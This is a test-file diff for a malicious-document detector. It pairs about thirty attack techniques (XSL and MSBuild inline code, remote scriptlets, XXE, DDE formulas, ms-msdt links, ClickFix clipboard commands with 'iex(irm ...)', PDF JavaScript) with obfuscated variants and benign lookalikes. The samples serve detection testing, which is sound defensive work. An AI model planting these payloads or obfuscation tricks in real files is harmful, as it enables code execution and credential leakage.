@@ -1,0 +1,320 @@
+/** Attacks of several formats in one table: the plain form, one in disguise, and a harmless document that resembles it. */
+
+import assert from 'node:assert/strict'
+import { suite, test } from 'node:test'
+import { useInspector } from './testing/inspector.ts'
+import { pdf } from './testing/samples.ts'
+import { writeZip } from './testing/zip-writer.ts'
+
+const { inspect } = useInspector()
+
+function accusations(bytes: Uint8Array): string[] {
+  const { findings } = inspect(bytes)
+  return findings.filter(({ severity }) => severity !== 'notice').map(({ id }) => id.replace('Docvet.', ''))
+}
+
+const file = (name: string, text: string | Uint8Array): Uint8Array => writeZip([{ name, data: Buffer.from(text) }])
+const SERVER = '203.0.113.5'
+const SHARE = `\\\\${SERVER}\\s`
+const XML = '<?xml version="1.0"?>'
+const xsl = (attributes: string, code: string): Uint8Array =>
+  Buffer.from(
+    `${XML}<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:m="urn:schemas-microsoft-com:xslt"><m:script implements-prefix="u" ${attributes}><![CDATA[${code}]]></m:script></xsl:stylesheet>`,
+  )
+const build = (code: string): Uint8Array =>
+  Buffer.from(
+    `<Project><UsingTask TaskName="A" TaskFactory="CodeTaskFactory"><Task><Code><![CDATA[${code}]]></Code></Task></UsingTask></Project>`,
+  )
+const task = (command: string, args: string): Uint8Array =>
+  Buffer.from(
+    `${XML}<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec><Command>${command}</Command><Arguments>${args}</Arguments></Exec></Actions></Task>`,
+  )
+const console = (text: string): Uint8Array => Buffer.from(`${XML}<MMC_ConsoleFile>${text}</MMC_ConsoleFile>`)
+const sheet = (formula: string): Uint8Array =>
+  Buffer.from(
+    `${XML}<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Cell ss:Formula="${formula}"/></Workbook>`,
+  )
+const page = (body: string): Uint8Array => Buffer.from(`<!DOCTYPE html><html><body>${body}</body></html>`)
+const TEXT = '<p>This page has a paragraph of text, so that there is something for people to read on it.</p>'
+const copy = (text: string): string => `<script>navigator.clipboard.writeText(${JSON.stringify(text)})</script>`
+const HUMAN = '<p>Verify you are human: press Windows + R, then Ctrl + V.</p>'
+const calendar = (alarm: string): Uint8Array =>
+  Buffer.from(`BEGIN:VCALENDAR\r\nBEGIN:VALARM\r\n${alarm}\r\nEND:VALARM\r\nEND:VCALENDAR\r\n`)
+const note = (data: string): Uint8Array => {
+  const header = Buffer.alloc(36)
+  Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex').copy(header)
+  header.writeUInt32LE(data.length, 16)
+  const section = Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex')
+  return Buffer.concat([
+    section,
+    Buffer.alloc(64),
+    header,
+    Buffer.from(data),
+    Buffer.from('22a7fb71790f0b4abb13899256426b24', 'hex'),
+  ])
+}
+const catalog = (entries: string): string => `<< /Type /Catalog ${entries} >>`
+const script = (source: string): string => `/OpenAction << /S /JavaScript /JS (${source.replace(/[\\()]/g, '\\$&')}) >>`
+const link = (rectangle: string, address: string): Uint8Array =>
+  pdf([
+    catalog(''),
+    `<< /Type /Annot /Subtype /Link /Rect [${rectangle}] /A << /S /URI /URI (${address.replace(/[\\()]/g, '\\$&')}) >> >>`,
+  ])
+const stash = (subject: string, source: string): Uint8Array =>
+  pdf([catalog(script(source)), `<< /Type /Annot /Subtype /Text /Subj (${subject}) >>`])
+const content = (...lines: string[]): Uint8Array => {
+  const text = `BT ${lines.map((line) => `(${line.replace(/[\\()]/g, '\\$&')}) Tj`).join(' ')} ET`
+  return pdf([catalog(''), `<< /Length ${text.length} >>\nstream\n${text}\nendstream`])
+}
+const percent = (text: string): string => text.replace(/./g, (letter) => `%${letter.charCodeAt(0).toString(16)}`)
+
+type Row = [technique: string, id: string, plain: Uint8Array, disguised: Uint8Array, harmless: Uint8Array]
+
+const RUN = 'new ActiveXObject("WScript.Shell").Run("calc")'
+const ROWS: readonly Row[] = [
+  [
+    'stylesheet with a script',
+    'Script.Program',
+    xsl('language="JScript"', RUN),
+    xsl("language='JScript'", 'new ActiveXObject(["WScript","Shell"].join(".")).Run("ca"+"lc")'),
+    xsl('language="JScript"', 'function f(n) { return Math.round(n) }'),
+  ],
+  [
+    'stylesheet with .NET code',
+    'Script.InlineCode',
+    xsl('language="C#"', `Process.Start("powershell", "-c iex(irm http://${SERVER}/a)");`),
+    xsl('language="C#"', 'VirtualAlloc(0, 4096, 0x3000, 0x40); CreateThread(0, 0, a, 0, 0, b);'),
+    xsl('language="C#"', 'return DateTime.Now.ToString();'),
+  ],
+  [
+    'build file with code',
+    'Script.InlineCode',
+    build('VirtualAlloc(0, 4096, 0x3000, 0x40)'),
+    build('Assembly.Load(Convert.FromBase64String(a)).EntryPoint.Invoke(null, null)'),
+    build('new WebClient().DownloadFile("https://www.nuget.org/nuget.exe", a); Process.Start("git", "status")'),
+  ],
+  [
+    'class by its number',
+    'Script.Program',
+    file('a.js', 'GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}").Run("calc")'),
+    file(
+      'a.hta',
+      '<object id="s" classid="clsid:F935DC22-1CF0-11D0-ADB9-00C04FD58A0B"></object><hta:application/><script>s.Run("calc")</script>',
+    ),
+    file('a.js', 'GetObject("new:{EE09B103-97E0-11CF-978F-00A02463E06F}").Add("a", 1)'),
+  ],
+  [
+    'constructor of functions',
+    'Script.Program',
+    file('a.js', `WScript.Sleep(1); [].constructor.constructor(unescape("${percent(RUN)}"))()`),
+    file(
+      'a.js',
+      `var f = Object.getPrototypeOf(async function(){}).constructor; WScript.Sleep(1); f(unescape("${percent(RUN)}"))()`,
+    ),
+    file('a.js', 'module.exports = [].constructor.constructor("return this")()'),
+  ],
+  [
+    'script of a server',
+    'Script.Dropper',
+    file('a.wsf', `<job><script language="VBScript" src="http://${SERVER}/a.vbs"></script></job>`),
+    file(
+      'a.js',
+      `var h = WScript.CreateObject("WinHttp.WinHttpRequest.5.1"); h.Open("GET", "http://" + "${SERVER}", false); h.Send(); eval(h.ResponseText)`,
+    ),
+    file('a.wsf', '<job><script language="VBScript" src="lib/a.vbs"></script></job>'),
+  ],
+  [
+    'answers that a batch file runs',
+    'Script.Program',
+    file('a.bat', `@echo off\r\nfor /f %%i in ('curl -s http://${SERVER}/c') do call %%i\r\n`),
+    file('a.bat', `@echo off\r\nf^or /f "delims=" %%a in ('finger u@${SERVER}') do %%a\r\n`),
+    file('a.bat', "@echo off\r\nfor /f %%i in ('curl -s https://api.example.com/ip') do set IP=%%i\r\n"),
+  ],
+  [
+    'task',
+    'Shortcut.Command',
+    task('mshta.exe', `http://${SERVER}/a`),
+    task('powershell', '-w hidden -enc aQBlAHgAKABpAHIAbQAgAGEAKQA='),
+    task('powershell.exe', '-NoProfile -File C:\\Scripts\\backup.ps1'),
+  ],
+  [
+    'console',
+    'Shortcut.Command',
+    console('<Task Type="CommandLine" Command="cmd.exe"><CommandLine Params="/c calc"/></Task>'),
+    console('<String ID="1">res://apds.dll/redirect.html?target=java&#115;cript:eval(1)</String>'),
+    console('<String ID="1">Favorites</String>'),
+  ],
+  [
+    'icon of a folder',
+    'Shortcut.Remote',
+    file('desktop.ini', `[.ShellClassInfo]\r\nIconResource=${SHARE}\\a.ico,0\r\n`),
+    file('autorun.inf', `[AutoRun]\r\nicon = ${SHARE}\\a.ico\r\n`),
+    file('desktop.ini', '[.ShellClassInfo]\r\nIconResource=%SystemRoot%\\system32\\imageres.dll,-112\r\n'),
+  ],
+  [
+    'setup information',
+    'Shortcut.Remote',
+    file('a.inf', `[version]\r\n[U]\r\nscrobj.dll,NI,http://${SERVER}/a.sct\r\n`),
+    file('a.inf', `; a\r\n[Version]\r\n[U]\r\n%11%\\ScrObj.dll , NI , http://${SERVER}/a.sct\r\n`),
+    file('a.inf', '[Version]\r\nClass=Net\r\n[R]\r\n11,,a.dll,1\r\n'),
+  ],
+  [
+    'contact or list of music',
+    'Shortcut.Remote',
+    file('a.vcf', `BEGIN:VCARD\r\nPHOTO;VALUE=URI:file://${SERVER}/s/a.jpg\r\n`),
+    file('a.m3u', `#EXTM3U\n${SHARE}\\a.mp3\n`),
+    file('a.m3u', '#EXTM3U\nmusic/a.mp3\n'),
+  ],
+  [
+    'installer on a server',
+    'Shortcut.Remote',
+    file('a.appinstaller', `${XML}<AppInstaller Uri="http://${SERVER}/a.appinstaller"/>`),
+    file(
+      'a.application',
+      `${XML}<asmv1:assembly xmlns:asmv1="a"><deploymentProvider codebase="http://${SERVER}/a.application"/></asmv1:assembly>`,
+    ),
+    file('a.manifest', `${XML}<assembly><assemblyIdentity name="a"/></assembly>`),
+  ],
+  [
+    'stylesheet of a share',
+    'Link.FileServerAutomatic',
+    Buffer.from(`${XML}<?xml-stylesheet type="text/xsl" href="${SHARE}\\a.xsl"?><a/>`),
+    Buffer.from(`${XML}<?xml-stylesheet type='text/xsl' href='&#92;&#92;${SERVER}\\a.xsl'?><a/>`),
+    Buffer.from(`${XML}<?xml-stylesheet type="text/xsl" href="https://blog.example/feed.xsl"?><rss/>`),
+  ],
+  [
+    'external entity',
+    'Xml.ExternalEntity',
+    Buffer.from(`${XML}<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`),
+    Buffer.from(`${XML}<!DOCTYPE svg [<!ENTITY % r SYSTEM 'http://${SERVER}/a.dtd'>%r;]><svg/>`),
+    Buffer.from(
+      `${XML}<!DOCTYPE book PUBLIC "a" "http://www.oasis-open.org/a.dtd" [<!ENTITY c SYSTEM "c.xml">]><book>&c;</book>`,
+    ),
+  ],
+  [
+    'formula in XML',
+    'Sheet.DdeCommand',
+    sheet('=cmd|&apos;/c calc&apos;!A0'),
+    Buffer.from("ID;PWXL;N;E\r\nC;X1;Y1;K0;ECMD|'/c calc'!A0\r\nE\r\n"),
+    sheet('=IF(A1=&quot;a|b&quot;,1,2)'),
+  ],
+  [
+    'formula of LibreOffice',
+    'Sheet.DdeCommand',
+    Buffer.from('a;b\n1;=DDE("cmd";"/c calc";"x")\n'),
+    Buffer.from('a,b\n=calc|A!Z,1\n'),
+    Buffer.from('var a=1,b=/^-(cmd|meta|m)$/i.test(s)?!0:1;\n'),
+  ],
+  [
+    'picture of a share in a style',
+    'Link.FileServerAutomatic',
+    page(`<div style="background:url('file://${SERVER}/a.png')">${TEXT}</div>`),
+    page(`<style>p { background: URL( \\\\${SERVER}\\a.png ) }</style>${TEXT}`),
+    page(`<div style="background:url(//cdn.example/a.png)">${TEXT}</div>`),
+  ],
+  [
+    'page in a frame',
+    'Link.Troubleshooter',
+    page(`<iframe srcdoc="&lt;a href='ms-msdt:/id'&gt;a&lt;/a&gt;"></iframe>${TEXT}`),
+    page(`<iframe srcdoc="&lt;script&gt;location='ms-'+'msdt:/id'&lt;/script&gt;"></iframe>${TEXT}`),
+    page(`<iframe srcdoc="&lt;p&gt;a&lt;/p&gt;"></iframe>${TEXT}`),
+  ],
+  [
+    'quoted link to the troubleshooter',
+    'Link.Troubleshooter',
+    page(`<a href="ms-msdt:/id">a</a>${TEXT}`),
+    page(`<a href="m&#115;-msdt:/id">a</a>${TEXT}`),
+    page(`<code>location.href = "ms-msdt:/id PCWDiagnostic"</code><pre>href="ms-msdt:/id"</pre>${TEXT}`),
+  ],
+  [
+    'link in Markdown',
+    'Link.Troubleshooter',
+    Buffer.from('A text with <a href="ms-msdt:/id">a link</a>.\n'),
+    Buffer.from('`code` and <a href="&#109;s-msdt:/id">a link</a>.\n'),
+    Buffer.from('The page has `<a href="ms-msdt:/id">`:\n\n```html\n<a href="ms-msdt:/id">a</a>\n```\n'),
+  ],
+  [
+    'script from a hidden address',
+    'Html.HiddenScript',
+    page(`<script>s=document.createElement("script");s.src=atob("${btoa('https://a.example/k.js')}")</script>`),
+    page(
+      '<input type="hidden"><script>s=document.createElement("script");s.src=["ht","tps://a.ex","ample/k.js"].join("")</script>',
+    ),
+    page('<div></div><script>s=document.createElement("script");s.src="https://a.example/"+v+".js"</script>'),
+  ],
+  [
+    'command in disguise',
+    'Html.ClickFix',
+    page(HUMAN + copy('cmd /c ping a.example')),
+    page(TEXT + copy(`powershell -c ping a.example${' '.repeat(60)}# C:\\company\\policy.docx`)),
+    page(TEXT + copy('ipconfig /flushdns')),
+  ],
+  [
+    'command without a scheme',
+    'Html.ClickFix',
+    page(TEXT + copy('powershell -w 1 -c "iex(irm a.example/b)"')),
+    page(HUMAN + copy(`powershell -C "$u='${SERVER}/cf';iex(irm $u)"`)),
+    page(TEXT + copy('Get-Service -Name Spooler')),
+  ],
+  [
+    'alarm',
+    'Mail.ProgramAttachment',
+    calendar('ATTACH:cmd.exe /c calc'),
+    calendar('ATTACH;X-A="b:c":c^md /c c^alc'),
+    calendar('ATTACH:chime.wav'),
+  ],
+  [
+    'file in a note',
+    'OneNote.Program',
+    note('@echo off\r\nstart /min calc.exe\r\nstart notepad.exe\r\nexit\r\n'),
+    note('<html><HTA:APPLICATION/></html>'),
+    note('A plain text about scripts.'),
+  ],
+  [
+    'item of a remote document',
+    'Link.Moniker',
+    page(`<a href="file://${SERVER}/a/b.rtf!x">a</a>${TEXT}`),
+    page(`<a href="FILE:///\\\\${SERVER}\\a\\b.docx!x">a</a>${TEXT}`),
+    page(`<a href="https://a.example/b.rtf!x">a</a>${TEXT}`),
+  ],
+  [
+    'page that is one link',
+    'Pdf.DownloadPage',
+    link('0 0 595 842', 'https://a.example/b.zip'),
+    link('595 842 0 0', 'https://a.example/b.ISO?c=1'),
+    link('72 700 200 715', 'https://a.example/b.zip'),
+  ],
+  [
+    'script in an annotation',
+    'Pdf.ScriptHidden',
+    stash('app.beep(1)', 'eval(this.getAnnots({nPage: 0})[0].subject)'),
+    stash(
+      '61-70-70',
+      "var a = getAnnots(), w = ''; a[0].subject.split(/-/).map(function(c) { w += '%' + c }); eval(unescape(w))",
+    ),
+    stash('Note', 'var a = getAnnots({nPage: 0}); if (a) a[0].hidden = false'),
+  ],
+  [
+    'server without a name',
+    'Pdf.AutomaticServer',
+    pdf([catalog(script(`this.submitForm("http://${SERVER}/c")`))]),
+    pdf([catalog(script(`var a = "cp/5.311.0.302//:ptth".split("").reverse().join(""); app.launchURL(a)`))]),
+    pdf([catalog(''), `<< /Type /Annot /Subtype /Link /A << /S /URI /URI (http://${SERVER}/) >> >>`]),
+  ],
+  [
+    'text that asks for a command',
+    'Pdf.CommandText',
+    content('Press Win + R and paste:', `powershell -c "iex(irm http://${SERVER}/a)"`),
+    content('Open the Run dialog', `mshta http://${SERVER}/a`),
+    content('ClickFix: attackers ask to press Win + R', `mshta http://${SERVER}/a`),
+  ],
+]
+
+suite('the plain form, the disguised form and the harmless one of', () => {
+  for (const [technique, id, plain, disguised, harmless] of ROWS)
+    test(technique, () => {
+      assert.ok(accusations(plain).includes(id), `plain: ${accusations(plain)}`)
+      assert.ok(accusations(disguised).includes(id), `disguised: ${accusations(disguised)}`)
+      assert.deepEqual(accusations(harmless), [])
+    })
+})
